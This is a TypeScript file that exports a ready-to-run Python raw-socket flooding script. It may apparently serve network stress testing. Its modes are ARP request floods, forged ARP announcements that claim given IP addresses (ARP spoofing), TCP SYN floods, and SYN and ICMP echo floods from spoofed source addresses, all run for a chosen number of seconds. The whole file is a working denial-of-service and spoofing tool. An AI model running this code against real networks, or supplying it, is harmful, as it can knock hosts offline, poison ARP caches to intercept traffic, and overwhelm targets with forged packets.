/**
 * A flood, for python3 -c: DEVICE KIND SECONDS, and what the kind asks for; prints how many frames it sent. All addresses of
 * 192.168.0.0/16 are drawn.
 *
 *   asks                     questions for them by ARP
 *   askers ADDRESS           questions for one, by them
 *   claims ADDRESS...        announcements of these
 *   syns MAC FROM            TCP SYNs to them
 *   unasked MAC ADDRESS      TCP SYNs to one, from everywhere
 *   echoes MAC ADDRESS       echo requests to one, from everywhere
 */
export const FLOOD = `
import random, socket, struct, sys, time
device, kind, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
more = sys.argv[4:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
own = out.getsockname()[4]
ip = socket.inet_aton
def checksum(octets):
    octets += b'\\0' * (len(octets) % 2)
    total = sum(struct.unpack('!%dH' % (len(octets) // 2), octets))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
def packet(source, to, protocol, payload):
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), random.getrandbits(16), 0, 64, protocol, 0, source, to)
    return bytes.fromhex(more[0].replace(':', '')) + own + b'\\x08\\0' + head[:10] + struct.pack('!H', checksum(head)) + head[12:] + payload
def syn(source, to):
    segment = struct.pack('!HHIIBBHHH', random.randrange(1024, 65535), 80, 1, 0, 0x50, 2, 1000, 0, 0)
    check = checksum(source + to + struct.pack('!BBH', 0, 6, len(segment)) + segment)
    return packet(source, to, 6, segment[:16] + struct.pack('!H', check) + segment[18:])
def arp(operation, mac, sender, target):
    return b'\\xff' * 6 + mac + b'\\x08\\x06' + struct.pack('!HHBBH', 1, 0x800, 6, 4, operation) + mac + sender + bytes(6) + target
def anyone(): return struct.pack('!I', 0xc0a80000 | random.randrange(1, 65535))
def anywhere(): return struct.pack('!I', 0x08080000 | random.randrange(1, 65535))
def echo():
    message = struct.pack('!BBHHH', 8, 0, 0, 7, 1) + b'x' * 40
    return packet(anywhere(), ip(more[1]), 1, message[:2] + struct.pack('!H', checksum(message)) + message[4:])
def claim():
    address = ip(random.choice(more))
    return arp(random.choice((1, 2)), own, address, address)
make = {
    'asks': lambda: arp(1, own, ip('192.168.1.1'), anyone()),
    'askers': lambda: arp(1, b'\\x02\\x09' + random.randbytes(4), anyone(), ip(more[0])),
    'claims': claim,
    'syns': lambda: syn(ip(more[1]), anyone()),
    'unasked': lambda: syn(anywhere(), ip(more[1])),
    'echoes': echo,
}[kind]
frames = [make() for _ in range(1500)]
sent, end = 0, time.monotonic() + seconds
while time.monotonic() < end:
    for frame in frames:
        try:
            out.send(frame)
            sent += 1
        except OSError: time.sleep(0.001)
        if sent % 500 == 0 and time.monotonic() >= end: break
print(sent)
`;
